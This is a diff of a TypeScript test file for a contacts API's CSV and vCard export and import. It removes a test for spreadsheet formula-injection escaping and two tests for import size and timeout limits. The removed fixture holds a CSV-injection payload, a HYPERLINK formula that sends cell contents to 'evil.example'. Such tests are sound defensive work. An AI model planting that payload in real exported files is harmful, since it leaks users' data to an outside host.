@@ -97,30 +97,6 @@ t.test('export CSV: the header row, then RFC 4180 rows with quoting where needed
   );
 });
 
-t.test('export CSV: cells a spreadsheet would run as formulas start with a quote, and import reads them back exactly', async (t) => {
-  const { alice, bob } = await setup(t);
-  const formulas = [
-    { ...janeRow, first_name: '=HYPERLINK("http://evil.example?"&A1)', last_name: '+SUM(1,2)', email: '-2+3@example.com' },
-    { ...janeRow, first_name: '@SUM(A1)', last_name: "'=already quoted", email: '=cmd@example.com' },
-    { ...janeRow, first_name: "'Tis", last_name: "''", email: 'plain@example.com' },
-  ];
-  await createContacts(alice, formulas);
-  const first = await alice('GET', '/api/contacts/export?format=csv');
-  t.equal(
-    first.body,
-    crlf(
-      'first_name,last_name,email,phone,birthday,additional_data',
-      `"'=HYPERLINK(""http://evil.example?""&A1)","'+SUM(1,2)",'-2+3@example.com,+14155550123,1990-05-17,`,
-      "'@SUM(A1),''=already quoted,'=cmd@example.com,+14155550123,1990-05-17,",
-      "'Tis,''',plain@example.com,+14155550123,1990-05-17,",
-    ),
-  );
-  const imported = await importing(bob, 'text/csv', first.body);
-  t.same(imported.json(), { created: 3, errors: [] });
-  t.same(await stored(bob), (await stored(alice)), 'every value as it was');
-  t.equal((await bob('GET', '/api/contacts/export?format=csv')).body, first.body, 'and the same file again');
-});
-
 t.test('export: query and sort apply; nothing matching is an empty file; only the caller\'s contacts', async (t) => {
   const { alice, bob } = await setup(t);
   await createContacts(alice, [
@@ -342,40 +318,6 @@ t.test('import limits: 10,000 entries (413, nothing created), 10 MiB (413), and 
     t.equal(res.statusCode, 415, type);
     t.same(res.json(), { detail: `Unsupported Media Type: ${type}` }, type);
   }
-});
-
-t.test('import limits: a line over 262,144 bytes is an error of its entry; more than 100,000 blank lines are 413', async (t) => {
-  const { alice } = await setup(t);
-  const header = 'first_name,last_name,email,phone,birthday\r\n';
-  const row = (i: number) => `A,B,a${i}@example.com,+14155550100,1990-01-01\r\n`;
-  const csv = await importing(alice, 'text/csv', `${header}${row(1)}A,B,${'x'.repeat(262_144)}@example.com,+14155550100,1990-01-01\r\n${row(3)}`);
-  t.same(csv.json(), { created: 2, errors: [{ entry: 2, detail: 'CSV row is longer than 262144 bytes' }] });
-  const card = (note: string) => crlf('BEGIN:VCARD', 'FN:A B', `EMAIL:b${note.length}@example.com`, 'TEL:+14155550100', 'BDAY:1990-01-01', `NOTE:${note}`, 'END:VCARD');
-  const vcard = await importing(alice, 'text/vcard', card('short') + card('y'.repeat(262_144)));
-  t.same(vcard.json(), { created: 1, errors: [{ entry: 2, detail: 'vCard line 13 is longer than 262144 bytes' }] });
-
-  const blank = await importing(alice, 'text/csv', `${header}${'\r\n'.repeat(100_001)}${row(4)}`);
-  t.equal(blank.statusCode, 413);
-  t.same(blank.json(), { detail: 'Too many blank lines in one import (max 100000)' });
-  const outside = await importing(alice, 'text/vcard', `${'\n'.repeat(100_001)}${card('z')}`);
-  t.equal(outside.statusCode, 413);
-  t.same(outside.json(), { detail: 'Too many blank lines or lines outside cards in one import (max 100000)' });
-  t.equal((await stored(alice)).length, 3, 'nothing more created');
-});
-
-t.test('import: a body over 8 KiB is read in the worker pool within IMPORT_PARSE_TIMEOUT_MS; past it 503, never a hung request', async (t) => {
-  const app = await buildContactsApp(t, { env: { IMPORT_PARSE_TIMEOUT_MS: '1' } });
-  const alice = as(app, await createUser(app));
-  const header = 'first_name,last_name,email,phone,birthday\r\n';
-  const rows = (count: number) => header + Array.from({ length: count }, (_, i) => `A,B,a${i}@example.com,+14155550100,1990-01-01\r\n`).join('');
-  t.ok(Buffer.byteLength(rows(150)) <= 8192 && Buffer.byteLength(rows(200)) > 8192, '150 rows are read in place, 200 in the pool');
-  const inPlace = await importing(alice, 'text/csv', rows(150));
-  t.same(inPlace.json(), { created: 150, errors: [] });
-  const late = await importing(alice, 'text/csv', rows(200));
-  t.equal(late.statusCode, 503);
-  t.equal(late.headers['retry-after'], '1');
-  t.same(late.json(), { detail: 'Reading the import took longer than 1 s; try again later or send it in smaller files' });
-  t.equal((await stored(alice)).length, 150, 'nothing of it created');
 });
 
 t.test('import: the user\'s cached list is stale at once', async (t) => {
